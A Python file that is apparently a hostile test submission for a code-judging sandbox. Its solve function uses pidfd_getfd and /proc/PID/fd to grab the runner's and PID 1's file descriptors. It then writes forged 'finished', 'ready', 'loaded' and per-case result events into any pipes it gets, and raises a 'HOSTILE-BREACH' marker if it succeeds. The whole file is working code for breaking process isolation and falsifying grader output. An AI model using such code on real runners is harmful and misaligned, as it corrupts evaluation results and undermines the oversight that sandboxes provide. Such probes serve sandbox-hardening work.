"""Takes the runner's descriptors by every route (pidfd_getfd, /proc/PID/fd) and writes
forged events into every pipe it gets: "finished", "ready", "loaded" and a runtime error
for every case, as a warm runner's next submission would read them."""
import ctypes
import json
import os

BREACH = "HOSTILE-" + "BREACH"
SYS_PIDFD_OPEN = 434
SYS_PIDFD_GETFD = 438


def solve(x):
    libc = ctypes.CDLL(None, use_errno=True)
    forged = [{"event": "finished"}, {"event": "ready"}, {"event": "loaded", "status": "ok"}]
    for case_id in ("01-one", "02-three", "03-zero", "01-twenty-one", "02-negative", "03-large"):
        forged.append({"event": "result", "id": case_id, "status": "raised", "cpu_ms": 0})
    payload = "".join("\n" + json.dumps(line) + "\n" for line in forged).encode()
    taken = []
    refused = []
    for target in sorted({1, os.getppid()}):
        pidfd = libc.syscall(SYS_PIDFD_OPEN, target, 0)
        if pidfd < 0:
            refused.append("pidfd_open(%d): %s" % (target, os.strerror(ctypes.get_errno())))
            continue
        for number in range(0, 64):
            fd = libc.syscall(SYS_PIDFD_GETFD, pidfd, number, 0)
            if fd < 0:
                continue
            taken.append("%d:%d" % (target, number))
            try:
                os.set_blocking(fd, False)
                os.write(fd, payload)
            except OSError:
                pass
            os.close(fd)
        os.close(pidfd)
        try:
            names = os.listdir("/proc/%d/fd" % target)
        except OSError:
            names = []
        for name in names:
            try:
                fd = os.open("/proc/%d/fd/%s" % (target, name), os.O_WRONLY | os.O_NONBLOCK)
            except OSError:
                continue
            taken.append("/proc/%d/fd/%s" % (target, name))
            try:
                os.write(fd, payload)
            except OSError:
                pass
            os.close(fd)
    if taken:
        raise Exception(BREACH + " took the runner's descriptors " + ", ".join(taken))
    return "refused: %s" % "; ".join(refused)
